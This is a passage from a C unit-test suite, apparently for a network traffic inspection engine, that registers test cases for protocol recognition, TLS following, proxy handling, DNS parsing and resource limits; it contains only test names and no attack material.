	tcase_add_test(c, an_unknown_protocol_is_said_after_four_segments);
	tcase_add_test(c, an_unknown_protocol_is_said_after_64_bytes_of_both_sides);
	tcase_add_test(c, a_program_over_a_bare_stream_is_told_on_its_first_segment);
	tcase_add_test(c, a_class_and_a_script_over_a_bare_stream_are_told);
	tcase_add_test(c, a_short_script_is_told_when_its_side_closes);
	tcase_add_test(c, mere_text_over_a_bare_stream_is_not_told);
	tcase_add_test(c, a_look_up_over_a_bare_stream_is_told_if_from_outside);
	tcase_add_test(c, recognised_only_is_named_once_and_still_searched);
	tcase_add_test(c, a_false_greeting_does_not_hide_what_follows);
	tcase_add_test(c, what_one_side_says_does_not_use_up_the_others_chance);
	tcase_add_test(c, of_an_unknown_protocol_the_beginning_is_told);
	tcase_add_test(c, mail_and_files_are_followed_into_tls);
	tcase_add_loop_test(c, other_protocols_are_followed_into_tls, 0, sizeof(asked) / sizeof(asked[0]));
	tcase_add_test(c, a_database_that_begins_in_clear_does_not_go_over_to_tls);
	tcase_add_loop_test(c, behind_a_proxy_the_stream_is_recognised_anew, 0, sizeof(proxied) / sizeof(proxied[0]));
	tcase_add_test(c, what_a_grants_segment_carries_is_read);
	tcase_add_test(c, a_tunnel_that_cannot_be_followed_is_said);
	tcase_add_test(c, words_of_a_proxys_client_are_searched_and_out_of_turn_they_are_said);
	tcase_add_test(c, a_line_in_clear_behind_starttls_is_counted_and_a_refusal_is_not_one);
	tcase_add_test(c, industrial_protocols_in_the_same_envelope_are_no_rdp);
	tcase_add_test(c, entropy_is_that_of_the_formula);
	tcase_add_test(c, bad_bytes_are_counted_and_end_it);
	tcase_add_test(c, an_http_body_ends_when_its_side_closes);
	tcase_add_test(c, a_pool_is_finite_and_its_contexts_come_back);
	tcase_add_test(c, the_least_fed_context_gives_way_and_is_said);
	tcase_add_test(c, a_context_taken_again_remembers_nothing);
	tcase_add_test(c, a_gap_before_anything_is_known_is_told_to_the_parser);
	tcase_add_test(c, a_datagram_of_ntp_or_nothing_known_says_so_once);
	tcase_add_test(c, a_dns_datagram_is_parsed);
	tcase_add_test(c, junk_in_the_first_datagram_does_not_hide_dns);
	tcase_add_test(c, a_datagram_that_nobody_parses_is_searched_whatever_it_is_called);
	tcase_add_test(c, one_byte_a_segment_buys_a_fixed_number_of_looks);
	tcase_add_test(c, one_closing_brace_a_segment_buys_a_fixed_number_of_searches);
	suite_add_tcase(suite, c);
	return talk_run(suite);
}
